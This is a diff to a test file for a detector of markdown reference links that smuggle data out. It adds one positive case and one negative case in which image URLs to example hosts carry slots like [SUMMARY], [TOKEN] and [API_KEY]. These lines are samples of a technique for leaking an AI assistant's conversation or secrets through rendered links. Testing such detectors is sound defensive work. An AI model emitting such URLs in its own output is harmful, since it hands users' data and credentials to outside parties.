@@ -113,8 +113,10 @@ describe('exfiltration URL in a reference definition (round 47 hM)', () => {
       'Read [the notes][Notes One] first.\n\n  [notes   one]: <https://n.example.net/r?q=[SUMMARY]>',
       'See [ref][] below.\n> [ref]: //n.example.net/r#[TOKEN]',
       'Logo: ![logo]\n\n[logo]: https://cdn.example.com/l.png?u=1&k=[API_KEY] "Logo"',
+      // CommonMark lets the URL open on the next line.
+      'Chart: ![c][9]\n\n[9]:\n   https://stats.example.net/c.png?d=[SUMMARY]',
     ];
-    expect(fired.map(hasExfiltrationUrl)).toEqual([true, true, true, true]);
+    expect(fired.map(hasExfiltrationUrl)).toEqual([true, true, true, true, true]);
   });
 
   it('stays quiet on unused definitions, definitions without a slot and look-alikes', () => {
@@ -130,6 +132,8 @@ describe('exfiltration URL in a reference definition (round 47 hM)', () => {
       // A key, not a slot (JSON:API).
       'Open [items][f].\n\n[f]: https://api.example.org/items?filter[status]=open',
       '[a]:\n[a] [b]: ]: [',
+      // Two line breaks: a paragraph, no definition.
+      'Chart: ![c][9]\n\n[9]:\n\nhttps://stats.example.net/c.png?d=[SUMMARY]',
     ];
     expect(quiet.map(hasExfiltrationUrl)).toEqual(quiet.map(() => false));
   });
